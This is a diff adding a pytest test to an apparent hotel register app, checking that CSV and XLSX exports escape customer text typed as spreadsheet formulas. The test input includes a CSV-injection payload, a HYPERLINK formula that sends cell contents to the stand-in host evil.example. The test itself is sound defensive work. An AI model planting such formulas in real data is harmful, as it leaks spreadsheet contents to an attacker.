@@ -134,6 +134,23 @@ def test_xlsx_export_parses_back_with_local_dates(web_login, hotel_contacts, fro
     assert rows[1][4] == "赵先生" and rows[1][7] == "早餐时间"
 
 
+def test_exports_never_let_a_customer_text_run_as_a_formula(web_login, login, frozen):
+    """A summary or name typed as a formula reaches Excel as plain text (CSV injection)."""
+    security = login("demo-hotel", "security")
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
+    with frozen("2026-11-05T10:00:00+08:00"):
+        register(security, summary=evil, customer={"name": "@SUM(1+1)", "phone": "13900000009"})
+        me = web_login("demo-hotel", "security")
+        body = me.get("/register.csv?from=2026-11-05&to=2026-11-05&lang=en").get_data()
+        book = load_workbook(io.BytesIO(
+            me.get("/register.xlsx?from=2026-11-05&to=2026-11-05&lang=en").get_data()))
+    row = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))[1]
+    assert row[7] == "'" + evil and row[4] == "'@SUM(1+1)"
+    cells = list(book.active.iter_rows(min_row=2, max_row=2))[0]
+    assert cells[7].data_type == "s" and cells[7].value == "'" + evil
+    assert cells[4].value == "'@SUM(1+1)" and cells[5].value == "13900000009"
+
+
 def test_exports_say_when_they_are_capped(web_login, hotel_contacts, frozen, monkeypatch):
     from core.web import registers
     monkeypatch.setattr(registers, "EXPORT_CAP", 2)
